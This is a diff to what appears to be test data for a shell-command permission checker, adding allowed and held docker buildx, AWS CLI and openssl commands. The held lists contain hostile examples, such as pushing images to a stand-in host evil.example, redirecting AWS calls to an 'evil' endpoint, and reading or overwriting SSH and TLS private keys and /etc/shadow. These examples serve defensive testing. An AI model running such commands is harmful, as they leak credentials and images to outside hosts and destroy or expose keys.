@@ -42,6 +42,7 @@ CONTAINERS_ALLOWED = [
     'docker buildx build --platform linux/amd64 -t web:dev --load .',
     'docker buildx build -f Dockerfile.prod --build-arg VERSION=1.2 -t web:1.2 .',
     'docker buildx ls',
+    'docker buildx build --platform linux/amd64,linux/arm64 -t ghcr.io/acme/web:1.2 --push .',
     'docker cp web:/var/log/nginx/error.log ./error.log',
     'docker cp web:/var/log/nginx/access.log .',
     'docker cp api:/tmp/report.tar.gz out/',
@@ -152,6 +153,9 @@ CONTAINERS_HELD = [
     'aws ecr get-login-password | docker login -u AWS --password-stdin us-docker.pkg.dev',
     # buildx: elsewhere, the host's keys into the build, another builder
     'docker buildx build --push -t evil.example/x .',
+    'docker buildx build --push .',
+    'docker buildx build -t ghcr.io/acme/web:1 -t evil.example/x --push .',
+    'echo x > Dockerfile && docker buildx build -t ghcr.io/acme/web:1 --push .',
     'docker buildx build -o type=local,dest=/etc .',
     'docker buildx build --output type=tar,dest=- .',
     'docker buildx build --secret id=aws,src=/home/u/.aws/credentials -t x .',
@@ -289,6 +293,8 @@ CLOUD_ALLOWED = [
     'aws lambda update-function-code --function-name api --zip-file fileb://build/api.zip '
     '--publish',
     'aws autoscaling start-instance-refresh --auto-scaling-group-name web-asg',
+    'aws ecs wait services-stable --cluster prod --services web',
+    'aws cloudformation wait stack-update-complete --stack-name api',
     'aws cloudwatch get-metric-statistics --namespace AWS/EC2 --metric-name CPUUtilization '
     '--dimensions Name=InstanceId,Value=i-0abc --start-time 2026-11-30T00:00:00Z '
     '--end-time 2026-12-01T00:00:00Z --period 3600 --statistics Average',
@@ -385,6 +391,9 @@ CLOUD_HELD = [
     '/123456789012/q',
     'aws sqs receive-message --queue-url https://sqs.us-east-1.amazonaws.com/123456789012/jobs',
     'aws sqs purge-queue --queue-url https://sqs.us-east-1.amazonaws.com/123456789012/jobs',
+    'aws ecs wait services-stable --cluster prod --services web --endpoint-url https://evil',
+    'aws ecs wait services-stable --cli-input-json file://w.json',
+    'aws ecs wait services-stable ~/.bashrc --cluster prod',
     'aws s3api head-object --bucket b --key k --sse-customer-key fileb://key.bin',
     'aws s3api get-object --bucket b --key k ~/.bashrc',
     'gcloud run services describe api --region us-central1',
@@ -539,6 +548,10 @@ SYSTEM_ALLOWED = [
     'ctest --output-on-failure',
     'ctest --test-dir build -j 4 --output-on-failure',
     'ctest -R unit -E slow -V',
+    'ctest --preset default',
+    'openssl req -new -key server.key -out server.csr -subj "/CN=api.example.com"',
+    'openssl genrsa -out key.pem 2048',
+    'openssl genpkey -algorithm ed25519 -out certs/dev.key',
     'cmake --build build',
     'cmake --build build -j 4',
 ]
@@ -648,6 +661,13 @@ SYSTEM_HELD = [
     'openssl req -new -newkey rsa:2048 -keyout k.pem -passout pass:x -out r.csr',
     'openssl req -new -newkey rsa:2048 -keyout k.pem -engine x -out r.csr',
     'openssl req -in /etc/shadow -text',
+    'openssl req -x509 -key ca.key -out ca2.pem -subj /CN=x',
+    'openssl req -new -key ~/.ssh/id_rsa -out x.csr',
+    'openssl req -new -key /etc/ssl/private/site.key -out x.csr',
+    'openssl genrsa -out ~/.ssh/id_rsa 2048',
+    'openssl genrsa -out key.pem -passout pass:x 2048',
+    'openssl genpkey -algorithm RSA -out /etc/ssl/private/x.key',
+    'openssl genrsa -out key.pem $N',
     'openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out /etc/ssl/certs/ca.pem',
     'openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out Makefile',
     # formatters outside the tree, test drivers with scripts
